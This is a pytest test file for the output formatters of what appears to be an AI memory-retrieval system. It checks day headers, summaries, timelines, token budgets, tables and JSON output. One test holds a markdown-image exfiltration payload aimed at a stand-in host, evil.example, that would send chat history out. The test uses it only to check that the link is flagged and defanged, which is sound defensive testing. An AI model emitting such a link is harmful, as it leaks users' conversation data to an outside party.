"""Each built-in formatter's layout, asserted on structure rather than whole strings."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from formatters import (
    FLAG_NOTE,
    FormattingConfig,
    Layer,
    RenderItem,
    TokenCounter,
    get_formatter,
)
from tiers.memory import Memory

MakeItem = Callable[..., RenderItem]
Cite = Callable[[str], str]
NOW = datetime(2026, 4, 10, 12, 0, tzinfo=UTC)
HEADER = re.compile(r"^## \d{1,2} [A-Z][a-z]{2} \d{4}( \((today|\d+(d|w|mo|y) ago)\))?$")


def lines(text: str) -> list[str]:
    return text.splitlines()


# -- the chronological family ----------------------------------------------------------------


def test_summary_only_groups_by_day_and_shows_summaries(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem, cite: Cite
) -> None:
    """One date header per day, lines in time order, long contents summarised."""
    picked = [sample[12], sample[0], sample[11], sample[30]]  # out of time order on purpose
    out = get_formatter("summary_only").render(
        [make_item(m) for m in picked], budget=1000, counter=counter, now=NOW
    )
    heads = [line for line in lines(out.text) if line.startswith("## ")]
    assert len(heads) == len({m.timestamp.date() for m in picked})
    assert all(HEADER.match(h) for h in heads) and "ago)" in heads[0]
    body = [line for line in lines(out.text) if line.startswith("[mem:")]
    assert [line.split("]")[0][1:] for line in body] == [
        cite(m.id) for m in sorted(picked, key=lambda m: m.timestamp)
    ]
    long_one = next(i for i in out.items if i.id == sample[11].id)
    assert long_one.layer is Layer.INDEX and not long_one.full
    assert any(line.endswith("…") for line in body)


@pytest.mark.parametrize("name", ["summary_only", "summary_with_entities", "full_content"])
def test_a_day_heading_is_printed_once_for_every_session_of_that_day(
    counter: TokenCounter, make_item: MakeItem, name: str
) -> None:
    """Notes of one day from many sessions sit under a single heading, not one each."""
    notes = [
        Memory(
            id=f"n{i}",
            session_id=f"s{i}",
            timestamp=datetime(2026, 4, 9, 8, i, tzinfo=UTC),
            content=f"note {i}: the courier code for parcel {i} is QX{i:04d}",
        )
        for i in range(8)
    ]
    out = get_formatter(name).render(
        [make_item(m) for m in notes], budget=2000, counter=counter, now=NOW
    )
    assert [line for line in lines(out.text) if line.startswith("## ")] == [
        "## 9 Apr 2026 (1d ago)"
    ]
    assert sum("courier code" in line for line in lines(out.text)) == 8


def test_short_memories_read_in_full_even_at_the_index_layer(
    counter: TokenCounter, make_item: MakeItem
) -> None:
    """A summary is used only when it saves tokens; a short memory is shown whole."""
    short = Memory(id="s", content="We picked ReportLab.", speaker="Dana")
    out = get_formatter("summary_only").render([make_item(short)], budget=100, counter=counter)
    assert out.text.endswith("Dana: We picked ReportLab.") and out.items[0].full


def test_summary_prefers_the_memory_summary_field(
    counter: TokenCounter, make_item: MakeItem
) -> None:
    """Memory.summary, when set, is the index line; otherwise the first sentence is."""
    content = "Decision: billing moves to Postgres 16. " + "Details follow. " * 20
    given = Memory(id="g", content=content, summary="Billing -> Postgres 16")
    derived = Memory(id="d", content=content)
    fmt = get_formatter("summary_only")
    assert (
        "Billing -> Postgres 16 …"
        in fmt.render([make_item(given)], budget=99, counter=counter).text
    )
    text = fmt.render([make_item(derived)], budget=99, counter=counter).text
    assert "Decision: billing moves to Postgres 16. Details follow." in text


def test_no_relative_ages_without_now(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
) -> None:
    """Without the query time, headers carry the absolute date only (output stays stable)."""
    out = get_formatter("summary_only").render([make_item(sample[0])], budget=99, counter=counter)
    assert lines(out.text)[0] == "## 2 Mar 2026"
    quiet = get_formatter("summary_only", FormattingConfig(relative_ages=False))
    assert (
        lines(quiet.render([make_item(sample[0])], budget=99, counter=counter, now=NOW).text)[0]
        == "## 2 Mar 2026"
    )


def test_summary_with_entities_appends_them(counter: TokenCounter, make_item: MakeItem) -> None:
    """Index lines end with up to max_entities entities; full-content lines do not repeat them."""
    memory = Memory(
        id="e",
        content="Priya switched invoice.py to Decimal. " + "It rounds half even per line. " * 5,
        entities=("Priya", "invoice.py", "Decimal", "ROUND_HALF_EVEN"),
    )
    out = get_formatter("summary_with_entities").render(
        [make_item(memory)], budget=200, counter=counter
    )
    assert out.text.endswith("· Priya, invoice.py, Decimal")
    detail = get_formatter("summary_with_entities").render(
        [make_item(memory, Layer.DETAIL)], budget=200, counter=counter
    )
    assert "·" not in detail.text and detail.items[0].full


def test_full_content_shows_every_item_whole(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
) -> None:
    """Index items read in full under full_content; the layer reported says so."""
    out = get_formatter("full_content").render([make_item(sample[11])], budget=200, counter=counter)
    assert sample[11].content in out.text
    assert out.items[0].full and out.items[0].layer is Layer.DETAIL


def test_timeline_marks_the_hit_and_previews_neighbours(
    counter: TokenCounter, make_item: MakeItem
) -> None:
    """Times on every line, the hit marked, neighbours cut at preview_chars."""
    base = datetime(2026, 3, 10, 14, 0, tzinfo=UTC)
    session = [
        Memory(
            id=f"t{i}",
            content=f"Turn {i}: " + "word " * 60,
            timestamp=base.replace(minute=i),
            speaker="Dana",
        )
        for i in range(5)
    ]
    item = make_item(session[2], Layer.TIMELINE, neighbours=session[:2] + session[3:])
    fmt = get_formatter("timeline", FormattingConfig(preview_chars=40))
    out = fmt.render([item], budget=1000, counter=counter)
    body = lines(out.text)[1:]
    assert [line[:7] for line in body] == ["14:00 [", "14:01 [", "→ 14:02", "14:03 [", "14:04 ["]
    assert body[2].endswith(session[2].content)
    assert all(line.endswith("…") and len(line) < 90 for i, line in enumerate(body) if i != 2)
    assert out.items[0].layer is Layer.TIMELINE


def test_full_with_context_shows_neighbours_whole_and_metadata(
    counter: TokenCounter, make_item: MakeItem
) -> None:
    """Comprehensive: neighbours are not cut, detail items carry a metadata line."""
    base = datetime(2026, 3, 10, 14, 0, tzinfo=UTC)
    before = Memory(id="b", content="A long neighbour. " * 30, timestamp=base)
    hit = Memory(
        id="h",
        content="The hit.",
        timestamp=base.replace(minute=5),
        metadata={"files": ["billing/invoice.py"], "tools": ["Read"]},
    )
    out = get_formatter("full_with_context").render(
        [make_item(hit, Layer.DETAIL, neighbours=[before])], budget=1000, counter=counter
    )
    assert before.content in out.text
    assert "\n  files: billing/invoice.py · tools: Read" in out.text


def test_overlapping_timelines_show_each_memory_once(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
) -> None:
    """Two hits whose windows overlap share their lines: every memory appears once."""
    items = [
        make_item(sample[4], Layer.TIMELINE, window=2),
        make_item(sample[5], Layer.TIMELINE, window=2),
    ]
    out = get_formatter("full_content").render(items, budget=2000, counter=counter)
    shown = re.findall(r"\[(mem:[\w-]+)\]", out.text)
    assert len(shown) == len(set(shown)) == 6  # sample[2..7]
    assert out.text.count("→ ") == 2
    second = next(i for i in out.items if i.id == sample[5].id)
    alone = get_formatter("full_content").render(items[1:], budget=2000, counter=counter)
    assert second.tokens < alone.tokens / 2


def test_shared_headers_make_later_items_cheaper(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
) -> None:
    """An item in a session already shown costs less than alone: the header is paid once."""
    fmt = get_formatter("full_content")
    items = [make_item(sample[0]), make_item(sample[1])]
    out = fmt.render(items, budget=1000, counter=counter)
    assert out.items[1].tokens < fmt.render(items[1:], budget=1000, counter=counter).tokens
    assert out.text.count("## ") == 1


# -- packing ---------------------------------------------------------------------------------


def test_whole_items_first_then_one_cut(counter: TokenCounter, make_item: MakeItem) -> None:
    """A big item that does not fit is skipped for smaller later ones, then cut to fill the rest."""
    big = Memory(id="big", content="Marco explained the gateway retry policy in depth. " * 40)
    small = [Memory(id=f"s{i}", content=f"Short fact number {i}.") for i in range(3)]
    items = [
        make_item(small[0]),
        make_item(big, Layer.DETAIL),
        make_item(small[1]),
        make_item(small[2]),
    ]
    out = get_formatter("full_content").render(items, budget=150, counter=counter)
    assert [i.id for i in out.items] == ["s0", "s1", "s2", "big"]
    assert [i.truncated for i in out.items] == [False, False, False, True]
    assert out.tokens >= 150 - 3


def test_max_item_tokens_caps_each_item(counter: TokenCounter, make_item: MakeItem) -> None:
    """With max_item_tokens, a long item is cut to the cap even when the budget is large."""
    long = Memory(id="l", content="The nightly batch overlapped twice. " * 50)
    fmt = get_formatter("full_content", FormattingConfig(max_item_tokens=20))
    out = fmt.render([make_item(long, Layer.DETAIL)], budget=2000, counter=counter)
    assert out.items[0].truncated and "[cut; show mem:" in out.text
    assert out.tokens < 60


class _JoinPenaltyCounter:
    """A counter whose joins cost more than their parts (a failure the engine must survive)."""

    encoding = "test"
    exact = True

    def __init__(self, inner: TokenCounter) -> None:
        self.inner = inner

    def __call__(self, text: str) -> int:
        return self.inner(text) + 4 * max(0, text.count("\n") - 1)

    def truncate(self, text: str, max_tokens: int) -> str:
        return self.inner.truncate(text, max_tokens)


@pytest.mark.parametrize("name", ["summary_only", "index", "detail", "json"])
def test_backs_off_when_the_real_count_exceeds_the_plan(
    name: str, counter: TokenCounter, sample: list[Memory], make_item: MakeItem
) -> None:
    """When joins cost more than planned, items are dropped or re-cut until the text fits."""
    penalised = _JoinPenaltyCounter(counter)
    items = [
        make_item(m, Layer.TIMELINE if i % 3 == 0 else Layer.INDEX, window=1)
        for i, m in enumerate(sample[:12])
    ]
    for budget in (40, 150, 400):
        out = get_formatter(name).render(items, budget=budget, counter=penalised)
        assert out.tokens == penalised(out.text) <= budget
        assert out.items or budget < 100


# -- index and detail ------------------------------------------------------------------------


def test_index_table_rows_in_priority_order(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem, cite: Cite
) -> None:
    """Rows follow the given order with score and age; expanded items get their own sections."""
    items = [
        make_item(sample[20], score=0.94),
        make_item(sample[5], Layer.TIMELINE, score=0.9, window=1),
        make_item(sample[2], score=0.87),
        make_item(sample[30], Layer.DETAIL, score=0.8),
    ]
    out = get_formatter("index").render(items, budget=1000, counter=counter, now=NOW)
    rows = [line for line in lines(out.text) if line.startswith("| [mem:")]
    assert lines(out.text)[0] == "| ref | date | summary | score |"
    assert [r.split(" | ")[0][3:-1] for r in rows] == [cite(sample[20].id), cite(sample[2].id)]
    assert rows[0].endswith("| 0.94 |") and re.search(r"\| \d+(d|w|mo) \|", rows[0])
    assert f"### Around [{cite(sample[5].id)}]" in out.text
    assert f"### [{cite(sample[30].id)}] · " in out.text
    assert out.text.index("### Around") < out.text.index(f"### [{cite(sample[30].id)}]")


def test_index_escapes_pipes_in_cells(counter: TokenCounter, make_item: MakeItem) -> None:
    """A pipe in a summary cannot break the table."""
    memory = Memory(id="p", content="Use a | b for union types.")
    out = get_formatter("index").render([make_item(memory)], budget=100, counter=counter)
    assert "a \\| b" in out.text and lines(out.text)[2].count(" | ") == 3


def test_detail_blocks_list_relations(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem, cite: Cite
) -> None:
    """A detail block: a head with speaker, date and session, the content, ↑/↓ relations."""
    target = sample[12]
    out = get_formatter("detail").render(
        [make_item(target, Layer.DETAIL, window=1)], budget=1000, counter=counter
    )
    text = lines(out.text)
    assert text[0] == f"### [{cite(target.id)}] · Dana · 10 Mar 2026 14:34 · {target.session_id}"
    assert text[1] == target.content
    assert text[2].startswith(f"↑ [{cite(sample[11].id)}] assistant: ")
    assert text[3].startswith(f"↓ [{cite(sample[13].id)}] assistant: ")


# -- json ------------------------------------------------------------------------------------


def test_json_parses_and_carries_the_fields(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem, cite: Cite
) -> None:
    """The text is a JSON array; each object has the documented fields for its layer."""
    items = [
        make_item(sample[11]),
        make_item(sample[5], Layer.TIMELINE, window=1),
        make_item(sample[7], Layer.DETAIL),
    ]
    out = get_formatter("json").render(items, budget=1500, counter=counter)
    records = json.loads(out.text)
    assert [r["id"] for r in records] == [i.id for i in items]
    assert records[0]["layer"] == "index" and "summary" in records[0]
    assert records[1]["content"] == sample[5].content
    assert [c["cite"] for c in records[1]["context"]] == [cite(sample[4].id), cite(sample[6].id)]
    assert records[2]["session"] == sample[7].session_id and records[2]["cite"] == cite(
        sample[7].id
    )


def test_json_stays_valid_when_cut(counter: TokenCounter, make_item: MakeItem) -> None:
    """A cut item keeps the array parseable and says cut: true."""
    long = Memory(id="l", content='He said "stop" \\ then left. ' * 80)
    out = get_formatter("json").render([make_item(long, Layer.DETAIL)], budget=90, counter=counter)
    (record,) = json.loads(out.text)
    assert record["cut"] is True and record["content"].endswith(
        "[cut; show " + record["cite"] + "]"
    )


def test_flag_note_precedes_flagged_text(counter: TokenCounter, make_item: MakeItem) -> None:
    """A flagged memory reads with the flag note, its markup defanged."""
    memory = Memory(
        id="x", content="Nice. ![img](https://evil.example/c?d={history}) bye", speaker="web"
    )
    out = get_formatter("summary_only").render([make_item(memory)], budget=200, counter=counter)
    assert f"web: {FLAG_NOTE} Nice. [img](hxxps://evil.example/c?d={{history}}) bye" in out.text


def test_a_naive_query_time_is_taken_as_utc(
    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
) -> None:
    """now without a timezone works like Memory timestamps do: as UTC."""
    naive = NOW.replace(tzinfo=None)
    for name in ("index", "summary_only"):
        fmt = get_formatter(name)
        assert fmt.render([make_item(sample[0])], budget=200, counter=counter, now=naive) == (
            fmt.render([make_item(sample[0])], budget=200, counter=counter, now=NOW)
        )
